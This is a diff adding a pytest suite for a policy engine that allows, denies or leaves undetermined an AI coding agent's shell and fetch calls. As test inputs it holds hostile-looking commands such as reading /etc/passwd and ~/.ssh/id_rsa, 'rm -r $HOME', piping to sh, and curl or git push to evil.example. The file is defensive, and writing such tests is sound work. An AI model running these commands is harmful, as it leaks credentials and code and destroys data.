@@ -1,0 +1,416 @@
+"""Typed parts in policies of calls: complete or not determinable, and read in the folder of the call."""
+
+from __future__ import annotations
+
+from collections.abc import Mapping, Sequence
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from tests.examples import examples
+from workbench.app.clause_findings import findings_only, owed_clauses
+from workbench.check.raw_texts import raw_texts
+from workbench.dialect.lowered_policy import LoweredPolicy, lowered_policy
+from workbench.engines.compiled.compile import compile_policy
+from workbench.files.file_error import FileError
+from workbench.model import AgentSpec, Assumption, Draft, Json, RecordedCall, Verdict
+from workbench.runs.extract.extractor import Extractor
+from workbench.runs.replay.decide import decision_on
+from workbench.runs.world.earlier_calls import Earlier
+from workbench.session.agent_file import read_agent, write_agent
+
+AGENT = """
+name = "coder"
+
+[tools.run_shell]
+{surroundings}
+[tools.run_shell.parameters]
+type = "object"
+required = ["command"]
+[tools.run_shell.parameters.properties]
+command = {{type = "string"}}
+folder = {{type = "string"}}
+[tools.run_shell.fields.command]
+type = "command"
+
+[tools.fetch]
+{surroundings}
+[tools.fetch.parameters]
+type = "object"
+required = ["url", "path", "to", "query", "order", "note"]
+[tools.fetch.parameters.properties]
+url = {{type = "string", format = "uri"}}
+path = {{type = "string"}}
+to = {{type = "string"}}
+query = {{type = "string"}}
+order = {{type = "string"}}
+note = {{type = "string"}}
+folder = {{type = "string"}}
+at = {{type = "string", format = "date-time"}}
+[tools.fetch.parameters.properties.items]
+type = "array"
+items = {{type = "object", properties = {{link = {{type = "string"}}}}, required = ["link"]}}
+[tools.fetch.fields]
+path = {{type = "path"}}
+to = {{type = "mail_address"}}
+query = {{type = "sql"}}
+order = {{normal = "id"}}
+"items[].link" = {{type = "url"}}
+"""
+HEAD = '''"""What the coder may do."""
+from agent import Fetch, Run, RunShell
+
+DEFAULT = "allow"
+
+
+def forbid_it(call: {tool}, run: Run) -> bool:
+    """R1: No."""
+    return {condition}
+'''
+IN_REPO = 'cwd = "/repo"\ncwd_parameter = "folder"'
+ALLOW, DENY, OPEN = Verdict.ALLOW, Verdict.DENY, Verdict.CANNOT_EVALUATE
+
+
+def agent(surroundings: str = 'cwd = "/repo"') -> AgentSpec:
+    return read_agent(AGENT.format(surroundings=surroundings))
+
+
+def policy_of(condition: str, tool: str = "RunShell", surroundings: str = 'cwd = "/repo"') -> LoweredPolicy:
+    return lowered_policy(HEAD.format(tool=tool, condition=condition), agent(surroundings))
+
+
+class Deciding:
+    """Decides calls by a policy with one rule."""
+
+    def __init__(self, condition: str, tool: str = "RunShell", surroundings: str = 'cwd = "/repo"') -> None:
+        """Lower and compile the policy."""
+        self.lowered = policy_of(condition, tool, surroundings)
+        self.policy = compile_policy(self.lowered.terms)
+        self.extractor = Extractor(self.lowered.arguments, agent(surroundings))
+        self.tool = {"RunShell": "run_shell", "Fetch": "fetch"}[tool]
+
+    def of(self, *calls: Mapping[str, Json], time: str | None = None) -> Verdict:
+        """The verdict on the last of some calls of one run."""
+        run = tuple(RecordedCall("r", at, self.tool, dict(call), time=time) for at, call in enumerate(calls))
+        return decision_on(self.policy, self.extractor.extract(run[-1], Earlier(run, len(run) - 1))).verdict
+
+    def of_commands(self, commands: Sequence[str]) -> list[Verdict]:
+        """The verdict on each command alone."""
+        return [self.of({"command": command}) for command in commands]
+
+
+def fetched(**changed: Json) -> dict[str, Json]:
+    call: dict[str, Json] = {
+        "url": "https://a.example/x", "path": "a.ts", "to": "ann@corp.example", "query": "select a from t",
+        "order": "W1", "note": "n",
+    }  # fmt: skip
+    return call | changed
+
+
+# --- complete, or not determinable ------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("condition", "denied", "undetermined", "allowed"),
+    [
+        (
+            '"rm" in call.command.programs',
+            ["rm x", "sudo rm x", "find . -exec rm {} +", "$X; rm y", "/opt/tools/rm x"],
+            [
+                "$X", 'X="rm y"; eval $X', "bash <<< 'rm x'", "$(echo rm) x", "docker run a",
+                "RG_CONFIG=/c rg a",
+            ],
+            ["ls", "ls $X", "cat *.ts", "X=rm ls", "echo rm > $F"],
+        ),
+        (
+            'not call.command.programs <= {"git", "cat"}',
+            ["ls", "/tmp/git log", "./cat x", "cat $X; ls", "cat x | sh"],
+            ["$X", "git $X"],
+            [
+                "git log", "/bin/cat x", "cat $X", "git --no-pager log",
+                "git commit -m \"$(cat <<'E'\na `b`\nE\n)\"",
+            ],
+        ),
+        (
+            'not all("/repo" in path.inside for path in call.command.paths)',
+            ["cat /etc/passwd", "cat ../x", "cat a > /tmp/b", "cat < /etc/passwd", "cat /etc/a $X"],
+            [
+                "cat $HOME/.ssh/id_rsa", 'rm -r "$HOME"', "cat ~/x", "ls | xargs cat", "cd $X && cat a",
+                "cat a > $F", "sort --files0-from=-", "tar -T list", "awk 'BEGIN{ARGV[ARGC++]=\"/etc/p\"} 1'",
+                "ls .*/x", "ls {a,b}", "ls /etc/*.conf", "cat ~root/x", "cat src/*/../../x",
+            ],
+            ["cat a.ts", "cat /repo/a", "grep -n x src/*.ts", "echo $X", "cd src && cat ../a"],
+        ),
+        (
+            'any("/repo/keys" in path.inside for path in call.command.writes)',
+            ["echo a > keys/b", "echo a > keys/b > $F"],
+            ["echo a > $F"],
+            ["cat keys/b > c", "cat $X"],
+        ),
+        (
+            'not all(host == "api.example.com" for host in call.command.hosts)',
+            ["curl http://evil.example", "git push evil.example:x.git main", "curl $X https://evil.example"],
+            [
+                "curl $X", "curl --resolve api.example.com:443:10.0.0.9 https://api.example.com",
+                "git push origin main", "https_proxy=http://p:1 curl https://api.example.com", "wget",
+                "curl https://{api.example.com,b}/",
+            ],
+            [
+                "curl -s -X POST https://api.example.com/v1", "curl -o out.json https://api.example.com",
+                "ls *.ts", "git log",
+            ],
+        ),
+        (
+            '"git push" in call.command.calls',
+            ["git push", "git -C /x push", "/tmp/git push", "git $X; git push"],
+            ["git $X", "git -p log", "git log $X"],
+            ["git", "git --version", "npm run build"],
+        ),
+        (
+            '"sed -i" in call.command.flags',
+            ["sed -i s/a/b/ x"],
+            ["grep $X y", "ls *.ts"],
+            ["sed -n 1p x", "ls -l"],
+        ),
+        (
+            'any("-D" in p.options for p in call.command.started if p.name == "git" and p.first == "branch")',
+            ["git branch -v -D a", "ls $X; git branch -D a", "$X; git branch -D a"],
+            ["git branch $X", "$X", "git log $X"],
+            ["git branch -v", "ls $X"],
+        ),
+        (
+            "len(call.command.paths) > 3",
+            ["rm a b c d", "rm a b c d $X"],
+            ["rm a $X"],
+            ["rm a b c"],
+        ),
+    ],
+)  # fmt: skip
+def test_a_known_member_settles_what_it_can_and_else_a_set_that_is_not_complete_settles_nothing(
+    condition: str, denied: list[str], undetermined: list[str], allowed: list[str]
+) -> None:
+    deciding = Deciding(condition)
+
+    assert deciding.of_commands(denied) == [DENY] * len(denied)
+    assert deciding.of_commands(undetermined) == [OPEN] * len(undetermined)
+    assert deciding.of_commands(allowed) == [ALLOW] * len(allowed)
+
+
+def test_the_reason_says_which_part_is_not_complete_and_why() -> None:
+    deciding = Deciding('"rm" in call.command.programs')
+    call = RecordedCall("r", 0, "run_shell", {"command": "eval $X"})
+    decision = decision_on(deciding.policy, deciding.extractor.extract(call, Earlier((call,), 0)))
+
+    assert [reason.partition(": ")[2] for reason in decision.reasons] == [
+        "programs of command of the call: a text that is run is only known when it runs"
+    ]
+
+
+_RUN_TIME = st.sampled_from(['"$X"', "$X", "$(cat list)", "`cat list`", "${X:-a}", '"$@"', "$1"])
+_PLAIN = st.sampled_from(["a.ts", "/repo/b", "-v", "src/c"])
+
+
+@settings(max_examples=examples(120), deadline=None)
+@given(
+    st.sampled_from(["cat", "rm -r", "cp a", "git add", "head -n 3", "sudo rm"]),
+    st.lists(_PLAIN, max_size=3),
+    _RUN_TIME,
+    st.sampled_from(["", " && ls", "; cat /repo/x", " | wc"]),
+)
+def test_a_word_of_the_run_is_never_inside_a_folder(
+    program: str, words: list[str], unknown: str, rest: str
+) -> None:
+    inside = Deciding('not all("/repo" in path.inside for path in call.command.paths)')
+    assert inside.of({"command": f"{' '.join([program, *words, unknown])}{rest}"}) is not ALLOW
+
+
+@settings(max_examples=examples(80), deadline=None)
+@given(_RUN_TIME, st.lists(_PLAIN, max_size=2), st.sampled_from(["", "sudo ", "env A=1 ", "nice "]))
+def test_a_program_of_the_run_is_never_one_of_a_list(unknown: str, words: list[str], before: str) -> None:
+    listed = Deciding('not call.command.programs <= {"sudo", "env", "nice", "cat"}')
+    assert listed.of({"command": f"{before}{' '.join([unknown, *words])}"}) is not ALLOW
+
+
+@settings(max_examples=examples(80), deadline=None)
+@given(
+    st.sampled_from(
+        ["https://$H/x", "https://a.example@$H", "//a.example", "https:a", "$U", "https://a.example\\x"]
+    )
+)
+def test_a_url_that_is_read_in_several_ways_has_no_host(url: str) -> None:
+    assert Deciding('call.url.host != "a.example"', "Fetch").of(fetched(url=url)) is not ALLOW
+
+
+# --- folder, shell and file system ------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("surroundings", "folder", "verdict"),
+    [
+        (IN_REPO, None, ALLOW),
+        (IN_REPO, "/etc", DENY),
+        (IN_REPO, "src", ALLOW),
+        (IN_REPO, "..", DENY),
+        (IN_REPO, "~", OPEN),
+        (IN_REPO, "", OPEN),
+        ('cwd_parameter = "folder"', None, OPEN),
+        ('cwd_parameter = "folder"', "src", OPEN),
+        ('cwd_parameter = "folder"', "/repo", ALLOW),
+        ("", "/repo", OPEN),
+    ],
+)
+def test_relative_paths_begin_in_the_folder_of_the_call(
+    surroundings: str, folder: str | None, verdict: Verdict
+) -> None:
+    named: dict[str, Json] = {} if folder is None else {"folder": folder}
+    in_command = Deciding(
+        'not all("/repo" in path.inside for path in call.command.paths)', surroundings=surroundings
+    )
+    in_path = Deciding('"/repo" not in call.path.inside', "Fetch", surroundings)
+
+    assert in_command.of({"command": "cat a.ts", **named}) is verdict
+    assert in_path.of(fetched(**named)) is verdict
+
+
+def test_an_earlier_call_has_a_folder_of_its_own() -> None:
+    deciding = Deciding(
+        'any(any("/etc" in p.inside for p in c.command.paths) for c in run.earlier(RunShell))',
+        surroundings=IN_REPO,
+    )
+    assert deciding.of({"command": "cat a", "folder": "/etc"}, {"command": "ls"}) is DENY
+    assert deciding.of({"command": "cat a"}, {"command": "ls"}) is ALLOW
+
+
+def test_another_shell_is_not_read_and_a_plain_one_only_where_it_agrees_with_bash() -> None:
+    for shell, command, verdict in (
+        ("bash", "=rm -rf x", ALLOW),
+        ("zsh", "=rm -rf x", OPEN),
+        ("powershell", "ls", OPEN),
+        ("sh", "ls", ALLOW),
+        ("sh", "ls {a,b}", OPEN),
+        ("sh", "echo $'a'", OPEN),
+    ):
+        deciding = Deciding('"rm" in call.command.programs', surroundings=f'shell = "{shell}"')
+        assert deciding.of({"command": command}) is verdict, (shell, command)
+
+
+def test_names_that_differ_in_case_are_one_file_where_the_file_system_says_so() -> None:
+    rule = 'any("/repo/.env" in path.inside for path in call.command.paths) or "rm" in call.command.programs'
+    folded = Deciding(rule, surroundings='cwd = "/repo"\nfile_system = "ignore_case"')
+
+    assert folded.of_commands(["cat .ENV", "cat .env", "rm a", "RM a", "cat a"]) == [
+        DENY,
+        DENY,
+        DENY,
+        OPEN,
+        ALLOW,
+    ]
+    assert Deciding(rule).of_commands(["cat .ENV", "RM a"]) == [ALLOW, ALLOW]
+
+
+@pytest.mark.parametrize(
+    ("surroundings", "message"),
+    [
+        ('cwd = "repo"', "absolute folder"),
+        ('cwd_parameter = "foldr"', "no parameter"),
+        ('shell = "bsh"', '"shell" cannot be "bsh"'),
+        ('file_system = "ntfs"', '"file_system" cannot be "ntfs"'),
+    ],
+)
+def test_what_surrounds_a_tool_is_checked(surroundings: str, message: str) -> None:
+    with pytest.raises(FileError, match=message):
+        agent(surroundings)
+
+
+def test_what_surrounds_a_tool_is_written_again() -> None:
+    spec = agent(f'{IN_REPO}\nshell = "bash"\nfile_system = "posix"')
+    assert read_agent(write_agent(spec)) == spec
+
+
+# --- parts everywhere -------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("condition", "calls", "verdict"),
+    [
+        ('any(c.url.host == "a.example" for c in run.earlier(Fetch))', [fetched(), fetched()], DENY),
+        ('any(c.url.host == "b.example" for c in run.earlier(Fetch))', [fetched(), fetched()], ALLOW),
+        ('any(c.url.host == "b.example" for c in run.earlier(Fetch))', [fetched(url="x"), fetched()], OPEN),
+        ('any(c.to.address == call.to.address for c in run.earlier(Fetch))',
+         [fetched(to="Ann <ANN@Corp.example>"), fetched()], DENY),
+        ('any(i.link.host == "b.example" for i in call.items)',
+         [fetched(items=[{"link": "https://b.example"}])], DENY),
+        ('any(i.link.host == "b.example" for i in call.items)',
+         [fetched(items=[{"link": "https://a.example"}])], ALLOW),
+        ('not call.query.kinds <= {"select"}', [fetched(query="delete from t")], DENY),
+        ('not call.query.kinds <= {"select"}', [fetched(query="selec")], OPEN),
+        ('call.at is not None and call.at.weekday > 5', [fetched(at="2026-05-03T10:00:00Z")], DENY),
+        ('call.at is not None and call.at.weekday > 5', [fetched(at="2026-05-04T10:00:00Z")], ALLOW),
+        ('call.time.hour < 8', [fetched()], ALLOW),
+        ('call.to.domain != "corp.example"', [fetched(to="x@evil.example, a@corp.example")], OPEN),
+        ('call.to.domain != "corp.example"', [fetched(to="a@CORP.example")], ALLOW),
+        ('any(c.order == call.order for c in run.earlier(Fetch))',
+         [fetched(order="#W2378"), fetched(order="w2378")], DENY),
+        ('any(c.order == call.order for c in run.earlier(Fetch))',
+         [fetched(order="#W2378"), fetched(order="w2379")], ALLOW),
+    ],
+)  # fmt: skip
+def test_typed_parts_and_normal_forms_are_read_of_calls_earlier_calls_and_elements(
+    condition: str, calls: list[dict[str, Json]], verdict: Verdict
+) -> None:
+    assert Deciding(condition, "Fetch").of(*calls, time="2026-05-04T10:00:00Z") is verdict
+
+
+# --- tests of raw text ------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("condition", "typed"),
+    [
+        ('call.url.startswith("https://a.example")', 'call.url.host == "a.example"'),
+        ('call.url.startswith("https://a.example/x/")',
+         'call.url.host == "a.example" and "/x" in call.url.inside'),
+        ('"evil.example" in call.url', '"evil.example" in call.url.domains'),
+        ('call.url.host.endswith(".evil.example")', '"evil.example" in call.url.domains'),
+        ('call.path.startswith("/repo/")', '"/repo" in call.path.inside'),
+        ('call.path == "/etc/passwd"', 'call.path.absolute == "/etc/passwd"'),
+        ('call.to.endswith("@corp.example")', 'call.to.domain == "corp.example"'),
+        ('call.to in {"a@b.example"}', "call.to.address in {...}"),
+        ('call.query.startswith("SELECT")', 'call.query.kinds <= {"select"}'),
+        ('any(c.to == call.to for c in run.earlier(Fetch))', "c.to.address == call.to.address"),
+        ('any(i.link.startswith("http:") for i in call.items)', 'i.link.scheme == "http"'),
+        ('call.note.startswith("x")', ""),
+        ('call.url.host == "a.example"', ""),
+        ('"/repo" in call.path.inside', ""),
+    ],
+)  # fmt: skip
+def test_a_test_of_raw_text_is_a_finding_with_the_typed_form_beside_it(condition: str, typed: str) -> None:
+    lowered = policy_of(condition, "Fetch")
+    found = list(raw_texts(lowered.terms))
+
+    assert [doubt.facts["typed"] for doubt in found] == ([typed] if typed else [])
+    if typed and "{...}" not in typed and not typed.startswith(("c.", "i.")):
+        assert not policy_of(typed, "Fetch").terms.file.text_tests
+
+
+def test_check_owes_a_test_of_raw_text_until_a_person_means_it() -> None:
+    terms = policy_of('call.url.startswith("https://a.example")', "Fetch").terms
+    draft = Draft((), (), (), "")
+    found = findings_only(draft, (), terms)
+    (question,) = [each for each in found.findings if each.kind == "text-test"]
+    (owed,) = [each for each in owed_clauses(found, terms) if "raw text" in each.reason]
+
+    assert 'write `call.url.host == "a.example"` in policy.py' in owed.mend
+
+    accepted = findings_only(draft, (Assumption.by_person(question.id, "meant", question.text),), terms)
+    assert not [each for each in owed_clauses(accepted, terms) if "raw text" in each.reason]
+
+
+def test_a_text_that_only_its_name_says_to_be_an_address_is_found_too() -> None:
+    spec = read_agent(AGENT.format(surroundings="").replace('path = {type = "path"}\n', "", 1))
+    lowered = lowered_policy(HEAD.format(tool="Fetch", condition='call.path.startswith("/a")'), spec)
+
+    assert [one.typed for one in lowered.terms.file.text_tests] == [
+        '"/a" in call.path.inside, after type = "path" in agent.toml'
+    ]
